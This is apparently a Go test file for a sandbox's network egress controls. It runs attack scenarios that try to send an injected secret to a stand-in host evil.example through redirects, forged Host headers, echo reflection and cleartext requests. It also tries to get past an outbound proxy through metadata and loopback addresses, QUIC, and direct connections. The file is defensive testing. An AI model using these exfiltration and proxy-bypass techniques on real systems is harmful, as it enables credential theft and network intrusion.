package egress

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/atoll-sh/atoll/engine"
	results "github.com/atoll-sh/atoll/engine/enginetest/attack"
	"github.com/atoll-sh/atoll/engine/network"
)

// safe is a sandbox whose secret is for good.example, and its attacker.
type safe struct {
	*world
	slot  network.Slot
	vault *vault
	pool  *x509.CertPool
}

// ask posts the placeholder and returns the answer with all its headers.
func (s *safe) ask(pool *x509.CertPool, url, address string) (string, error) {
	res, body, err := post(client(s.t.(*testing.T), s.slot, pool, address, false), url, "text/plain", "Bearer "+holder, holder)
	if err != nil {
		return "", err
	}
	var head bytes.Buffer
	_ = res.Header.Write(&head)
	_ = res.Trailer.Write(&head)
	return fmt.Sprintf("%d %s%s", res.StatusCode, head.String(), body), nil
}

// kept fails when the value is in what a host got or the sandbox sees.
func (s *safe) kept(who string, texts ...string) error {
	got := s.got.take()
	for _, t := range append(texts, got.header, got.body, got.query, got.path) {
		if strings.Contains(t, value) || strings.Contains(t, "s3cr3t") {
			return fmt.Errorf("%s has the value: %.200q", who, t)
		}
	}
	return nil
}

// TestAttacksOnSecrets tries to have a secret's value go elsewhere than to its
// hosts, or come back. It shows first that the value does go to its host.
func TestAttacksOnSecrets(t *testing.T) {
	w := newWorld(t)
	told := watchEvents(t, w.filter)
	slot, v, pool := w.sealed(engine.NetworkPolicy{}, binding("good.example"))
	s := &safe{world: w, slot: slot, vault: v, pool: pool}
	if _, err := s.ask(pool, "https://good.example/echo", good4+":443"); err != nil || w.got.take().header != "Bearer "+value {
		t.Fatalf("control: the host did not get the value: %v", err)
	}
	for _, a := range []struct {
		name, story string
		run         func() error
	}{
		{"foreign-host", "the placeholder in a request to another host, at its own address and at the secret's", func() error {
			for _, address := range []string{evil4 + ":443", good4 + ":443"} {
				if _, err := s.ask(w.roots, "https://evil.example/echo", address); err != nil {
					return err
				}
				if err := s.kept("another host"); err != nil {
					return err
				}
			}
			return nil
		}},
		{"host-at-foreign-address", "the secret's host, asked at the attacker's address: only the host's own may get the value", func() error {
			out, err := s.ask(pool, "https://good.example/whoami", evil4+":443")
			if err == nil && strings.Contains(out, "evil") {
				return fmt.Errorf("the attacker's address answered: %q", out)
			}
			return nil
		}},
		{"in-the-clear", "the placeholder in a request without TLS to the secret's host", func() error {
			out, err := plain(slot, good4+":80", "POST /echo HTTP/1.1\r\nHost: good.example\r\nAuthorization: "+holder+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			if err != nil {
				return err
			}
			return s.kept("whoever listens on the way", out)
		}},
		{"echo", "the host repeats what it got, in headers, trailers and body, plainly and spelt otherwise", func() error {
			for _, path := range []string{"/echo", "/echo?flush", "/echo?x=" + holder} {
				out, err := s.ask(pool, "https://good.example"+path, good4+":443")
				if err != nil {
					return err
				}
				if strings.Contains(out, "s3cr3t") {
					return fmt.Errorf("%s came back: %.200q", path, out)
				}
			}
			return nil
		}},
		{"redirect", "the host sends the client on to another one with the value in the address", func() error {
			out, err := s.ask(pool, "https://good.example/echo?key="+holder, good4+":443")
			if err != nil || !strings.Contains(out, "Location: https://evil.example/?key="+holder) {
				return fmt.Errorf("the redirect: %.300q, %w", out, errOr(err))
			}
			if _, err := s.ask(w.roots, "https://evil.example/echo?key="+holder, evil4+":443"); err != nil {
				return err
			}
			return s.kept("where it was sent on to")
		}},
		{"other-authority", "another host in a request on the connection to the secret's host", func() error {
			c, err := connect(slot, "tcp", good4+":443", wait)
			if err != nil {
				return err
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(wait))
			k := tls.Client(c, &tls.Config{ServerName: "good.example", RootCAs: pool})
			fmt.Fprintf(k, "GET /echo HTTP/1.1\r\nHost: evil.example\r\nAuthorization: %s\r\n\r\n", holder)
			out, err := body(k)
			if err != nil || !strings.HasPrefix(out, fmt.Sprint(http.StatusMisdirectedRequest)) {
				return fmt.Errorf("%q, %w", out, errOr(err))
			}
			return s.kept("another host")
		}},
		{"authority-elsewhere", "the certificate that the sandbox must trust vouches for another host, or in another sandbox", func() error {
			if _, err := s.ask(pool, "https://evil.example/echo", evil4+":443"); err == nil {
				return errors.New("it vouches for a host without secrets")
			}
			other, _, otherPool := w.sealed(engine.NetworkPolicy{}, binding("good.example"))
			defer func() { _ = w.manager.Release(t.Context(), other) }()
			if _, err := s.ask(otherPool, "https://good.example/echo", good4+":443"); err == nil {
				return errors.New("another sandbox's is as good")
			}
			w.filter.SetResolver(v)
			return nil
		}},
		{"fork", "a fork uses its parent's placeholder, and its parent's certificate", func() error {
			fork, err := w.manager.Acquire(t.Context())
			must(t, err)
			defer func() { _ = w.manager.Release(t.Context(), fork) }()
			pem, err := w.filter.Seal(fork, "fork")
			must(t, err)
			must(t, w.manager.Apply(t.Context(), fork, engine.NetworkPolicy{}))
			own := binding("good.example")
			own.Placeholder = strings.ReplaceAll(holder, "1", "2")
			v.set("fork", nil, own)
			forkPool := x509.NewCertPool()
			forkPool.AppendCertsFromPEM(pem)
			s := &safe{world: w, slot: fork, pool: forkPool}
			if _, err := s.ask(pool, "https://good.example/echo", good4+":443"); err == nil {
				return errors.New("it has its parent's authority")
			}
			if _, err := s.ask(forkPool, "https://good.example/echo", good4+":443"); err != nil {
				return err
			}
			return s.kept("the host, by the parent's placeholder")
		}},
		{"detached", "the placeholder of a secret that was taken away", func() error {
			v.set("sb", nil)
			defer v.set("sb", nil, binding("good.example"))
			if _, err := s.ask(w.roots, "https://good.example/echo", good4+":443"); err != nil {
				return err
			}
			return s.kept("the host")
		}},
		{"unreadable", "a request while nobody can read the secrets", func() error {
			v.set("sb", errors.New("the store is gone"))
			defer v.set("sb", nil, binding("good.example"))
			if out, err := s.ask(pool, "https://good.example/echo", good4+":443"); err == nil && strings.HasPrefix(out, "200") {
				return fmt.Errorf("it was answered: %.100q", out)
			}
			return s.kept("the host")
		}},
	} {
		w.got.forget()
		told.mark(t.Context())
		err := a.run()
		row := results.Verdict{Name: a.name, Group: "secret", Class: "container", Blocked: err == nil, Detail: a.story, Event: told.of(t.Context(), "secret/"+a.name)}
		if row.Event == "" {
			t.Errorf("secret/%s: nothing was recorded of it", a.name)
		}
		if err != nil {
			row.Detail = "LEAK: " + err.Error()
		}
		attacks.Add(t, row)
	}
}

// TestAttacksPastTheProxy tries to reach the internet past an outbound proxy.
func TestAttacksPastTheProxy(t *testing.T) {
	f := newField(t)
	o := f.proxies(proxy4)
	s := f.slot(via(domains("good.example"), "http://"+proxy4+":3128"))
	open := f.slot(via(engine.NetworkPolicy{}, "http://"+proxy4+":3128"))
	for i, a := range []attack{
		{"proxy", "unset-variables", "a program that heeds no proxy variables asks a web server itself: the proxy alone may see it", func(f *field, mark string) error {
			if got, err := get(open, "good.example", good4+":443"); err != nil || !strings.HasPrefix(got, "200 good") {
				return fmt.Errorf("what is allowed: %q, %w", got, errOr(err))
			}
			if asked := o.took(); !slices.Equal(asked, []string{"CONNECT good.example:443 "}) {
				return fmt.Errorf("the proxy was asked %q", asked)
			}
			return nil
		}},
		{"proxy", "foreign-name", "a name that the policy lacks, which the proxy would reach", func(f *field, _ string) error {
			if got, err := get(s, "evil.example", evil4+":443"); err == nil {
				return fmt.Errorf("%q", got)
			}
			if asked := o.took(); len(asked) > 0 {
				return fmt.Errorf("the proxy was asked %q", asked)
			}
			return nil
		}},
		{"proxy", "itself", "the proxy's own address, to ask it for anything", func(f *field, mark string) error {
			return errors.Join(f.reaches(s, "tcp", proxy4+":3128", mark), f.reaches(open, "tcp", proxy4+":3128", mark))
		}},
		{"proxy", "private-behind", "metadata and private addresses, by name and number, as the proxy would see them", func(f *field, mark string) error {
			for _, host := range []string{"rebind.example", "meta.example", metadata4, "10.0.0.1", "127.0.0.1", "localhost"} {
				for _, to := range []string{good4 + ":80", evil4 + ":80"} {
					_, _ = plain(s, to, "GET /"+mark+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
				}
			}
			for _, asked := range o.took() {
				return fmt.Errorf("the proxy was asked %q", asked)
			}
			return nil
		}},
		{"proxy", "quic", "QUIC, which no such proxy carries", func(f *field, mark string) error {
			return f.send(open, udp4(open, evil4, 443, mark), udp6(open, evil6, 443, mark))
		}},
		{"proxy", "dies", "web connections while the proxy is gone: none may go straight", func(f *field, mark string) error {
			gone := f.slot(via(engine.NetworkPolicy{}, "http://"+proxy4+":9"))
			if got, err := get(gone, "evil.example", evil4+":443"); err == nil {
				return fmt.Errorf("%q", got)
			}
			if got, _ := plain(gone, evil4+":80", "GET /"+mark+" HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"); strings.HasPrefix(got, "200") {
				return fmt.Errorf("%q", got)
			}
			return nil
		}},
	} {
		attacks.Add(t, f.try(500+i, a))
	}
}

// errOr gives %w something to show.
func errOr(err error) error {
	if err == nil {
		return errors.New("no error")
	}
	return err
}
